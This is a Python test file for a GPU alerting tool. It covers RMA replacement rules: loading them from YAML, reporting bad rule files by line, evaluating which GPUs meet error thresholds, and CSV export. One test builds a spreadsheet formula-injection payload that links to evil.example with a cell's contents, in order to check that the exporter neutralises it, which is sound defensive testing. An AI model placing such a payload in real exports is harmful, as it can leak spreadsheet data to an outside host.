"""The RMA policy: loading and checking rules/rma.yml, and which GPUs it names (pure evaluation)."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest

from alertd.authoring.check import check
from alertd.core.errors import InvalidDocument
from alertd.rules.rma import evaluate, to_csv
from alertd.core.model import iso
from alertd.rules.ruleset import load_rules
from testkit.builders import ROOT

NOW = datetime(2026, 11, 30, 12, 0, tzinfo=timezone.utc)
POLICY = """
rma:
  - name: xid79-repeat
    window: 30d
    any_of: [{xid: 79}]
    min_incidents: 2
  - name: row-remap-failure
    window: 90d
    any_of: [{alertname: GPURowRemapFailure}]
  - name: dbe-and-remap
    window: 30d
    all_of: [{xid: 48}, {xid: 63}]
"""


def row(uuid: str, seq: int, days_ago: float, xids=(), signals=("xid",), alertnames=("GPUXidError",)) -> dict:
    return {"uuid": uuid, "incident": f"INC-{seq}", "seq": seq, "openedAt": iso(NOW - timedelta(days=days_ago)),
            "node": "gpu-node-1", "cluster": "prod", "status": "resolved", "severity": "critical", "title": "t",
            "xids": list(xids), "signals": list(signals), "alertnames": list(alertnames)}


@pytest.fixture
def rules(tmp_path):
    (tmp_path / "rma.yml").write_text(POLICY)
    return load_rules([tmp_path]).rma


def test_the_shipped_policy_is_the_history_rules_marked_rma():
    """One definition: the RMA candidates are the history rules (rules/history.yml) marked rma, so the GPU
    the page calls "replace GPU" is the one /ui/rma lists."""
    shipped = load_rules(["rules"])
    names = [r.name for r in shipped.rma]
    assert names == ["xid79-third-in-7d", "xid79-repeat", "row-remap-failure", "uncorrectable-ecc", "xid48-and-63"]
    third = next(r for r in shipped.history if r.name == "xid79-third-in-7d")
    assert third.action == "replace_gpu" and shipped.rma[0] == third.as_rma()
    assert not (ROOT / "rules" / "rma.yml").exists()


def test_a_history_rule_named_like_an_rma_rule_is_refused(tmp_path):
    (tmp_path / "a.yml").write_text(POLICY)
    (tmp_path / "b.yml").write_text("history:\n  - name: xid79-repeat\n    kind: repeat_offender\n"
                                    "    any_of: [{xid: 79}]\n    rma: true\n")
    with pytest.raises(InvalidDocument) as exc:
        load_rules([tmp_path])
    assert "b.yml:2" in str(exc.value) and "already a history or RMA rule" in str(exc.value)


def test_windows_counts_and_combinations(rules):
    history = [
        row("GPU-a", 1, 40, [79]), row("GPU-a", 2, 10, [79]),  # one of the two is outside 30 days: not yet
        row("GPU-b", 3, 20, [79]), row("GPU-b", 4, 2, [79]),  # twice in 30 days
        row("GPU-c", 5, 60, (), ("row_remap",), ("GPURowRemapFailure",)),  # inside 90 days
        row("GPU-d", 6, 5, [48]), row("GPU-d", 7, 3, [63]),  # 48 and 63, separate incidents
        row("GPU-e", 8, 5, [48]),  # 48 alone
    ]
    found = {c.gpu["uuid"]: c for c in evaluate(rules, history, {"GPU-b": {"uuid": "GPU-b", "serial": "S-1"}}, NOW)}
    assert set(found) == {"GPU-b", "GPU-c", "GPU-d"}
    assert found["GPU-b"].rules == ["xid79-repeat"] and [e["incident"] for e in found["GPU-b"].evidence] == ["INC-3", "INC-4"]
    assert found["GPU-d"].rules == ["dbe-and-remap"] and [e["incident"] for e in found["GPU-d"].evidence] == ["INC-6", "INC-7"]
    lines = to_csv(list(found.values())).splitlines()
    assert lines[0].startswith("uuid,serial,pci_bus_id") and any(line.startswith("GPU-b,S-1,") for line in lines)


def test_bad_policies_are_reported_with_their_line(tmp_path):
    f = tmp_path / "rma.yml"
    f.write_text("rma:\n  - name: twice\n    any_of: [{xid: 79}]\n  - name: twice\n    window: 3 days\n"
                 "    any_of: [{xid: 79}]\n  - name: both\n    all_of: [{xid: 48}]\n")
    with pytest.raises(InvalidDocument) as exc:
        load_rules([f])
    text = str(exc.value)
    assert "rma.yml:8" in text  # all_of needs two conditions (schema)
    f.write_text("rma:\n  - name: twice\n    any_of: [{xid: 79}]\n  - name: twice\n    window: 3 days\n"
                 "    any_of: [{xid: 79}]\n")
    report = check([f])
    messages = [(p.line, p.message) for p in report.errors]
    assert any(line == 4 and "duplicate RMA rule name 'twice'" in m for line, m in messages), messages
    assert any(line == 5 for line, _ in messages), messages  # the window is not a Prometheus duration


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_starts_a_formula(rules, start):
    """Labels come from alerts: a node or model written as a formula must reach the spreadsheet as text."""
    formula = start + 'HYPERLINK("https://evil.example/?"&A1,"Click")'
    gpu = {"uuid": "GPU-b", "serial": formula, "pci_bus_id": formula, "model": formula, "cluster": formula,
           "node": formula}
    found = evaluate(rules, [row("GPU-b", 3, 20, [79]), row("GPU-b", 4, 2, [79])], {"GPU-b": gpu}, NOW)
    cells = [cell for line in list(csv.reader(io.StringIO(to_csv(found))))[1:] for cell in line]
    assert cells.count("'" + formula) == 5, cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
